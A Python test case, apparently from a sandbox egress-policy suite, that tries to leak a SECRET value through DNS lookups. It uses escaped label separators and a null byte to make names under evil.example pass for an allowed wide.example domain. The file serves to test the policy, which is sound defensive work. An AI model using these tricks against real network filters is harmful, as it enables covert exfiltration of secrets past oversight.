# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: a name whose labels are written with escapes looks like an allowed one, and is not
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    # libc reads \046 as a dot inside of a label: one label, and not the two that it looks like.
    for name in (
        SECRET + "\\046evil\\046wide.example",
        SECRET + ".evil.example\x00.wide.example",
        SECRET + ".evil.example",
    ):
        try:
            if socket.getaddrinfo(name.encode(), 443):
                return True
        except (ValueError, TypeError, socket.gaierror):
            continue
    raise PermissionError("every spelling was refused")
